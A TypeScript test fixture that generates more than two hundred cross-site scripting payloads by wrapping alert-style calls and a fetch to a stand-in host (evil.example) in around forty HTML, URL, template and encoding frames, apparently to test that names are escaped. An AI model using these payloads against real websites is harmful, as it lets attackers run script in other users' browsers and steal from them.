// What people have written into names to have a script of theirs run in the browser of others. Each
// calls `hit`, opens a dialog, or asks another server, if any part of it is taken for HTML, an address,
// a style or code.
import { runs } from '../faults/tier.ts'

/** How code is spelled. */
const codes: readonly string[] = [
  'hit(1)',
  'hit`1`',
  'alert(1)',
  "fetch('//evil.example/')",
  'top["hi"+"t"](1)',
]

/** HTML around it, as elements, attributes and breaks out of where a name may stand. */
const frames: readonly ((code: string) => string)[] = [
  code => `<script>${code}</script>`,
  code => `</script><script>${code}</script>`,
  code => `<img src=x onerror="${code}">`,
  code => `"><img src=x onerror=${code.replaceAll('"', '&quot;')}>`,
  code => `'><svg onload=${code.replaceAll('"', '&quot;')}>`,
  code => `<svg><script>${code}</script></svg>`,
  code => `<svg><animate onbegin='${code}' attributeName=x dur=1s>`,
  code => `<iframe srcdoc='<script>parent.${code}</script>'>`,
  code => `<iframe src="javascript:parent.${code}">`,
  code => `<a href="javascript:${code}" autofocus onfocus="${code}">x</a>`,
  code => `<input autofocus onfocus='${code}'>`,
  code => `<details open ontoggle='${code}'>`,
  code => `<video><source onerror='${code}'></video>`,
  code => `<body onload='${code}'>`,
  code => `<object data="javascript:${code}">`,
  code => `<math><mtext><table><mglyph><style><img src=x onerror='${code}'>`,
  code => `<template><script>${code}</script></template>`,
  code => `<style>@import 'javascript:${code}';</style>`,
  code => `<form action="javascript:${code}"><button autofocus>x`,
  code => `<base href="javascript:${code}//">`,
  code => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  code => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${code})}">`,
  code => `" onmouseover="${code}" style="position:fixed;inset:0" x="`,
  code => `' onfocus='${code}' autofocus tabindex=0 '`,
  code => `javascript:${code}//`,
  code => `JaVaScRiPt:${code}`,
  code => `java\tscript:${code}`,
  code => `x\n<script>${code}</script>`,
  code => `data:text/html,<script>${code}</script>`,
  code => `\${${code}}`,
  code => `{{constructor.constructor('${code.replaceAll("'", '"')}')()}}`,
  code => `';${code};//`,
  code => `";${code};//`,
  code => `\`;${code};//`,
  code => `--></style></title></textarea><script>${code}</script>`,
  code => `]]><script>${code}</script>`,
  code => `<!--<img src="--><img src=x onerror=${code.replaceAll('"', '&quot;')}//">`,
  code => `\u202e<script>${code}</script>\u202c`,
  code => `<ſcript>${code}</ſcript>`,
  code => `＜script＞${code}＜/script＞`,
  code => `&lt;script&gt;${code}&lt;/script&gt;`,
  code => `%3Cscript%3E${encodeURIComponent(code)}%3C/script%3E`,
  code => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
]

/** More than two hundred, no two alike; for a commit one of each frame, with each code in its turn. */
export const payloads: readonly string[] = frames.flatMap((frame, index) =>
  runs([codes[index % codes.length]!], codes).map(frame),
)
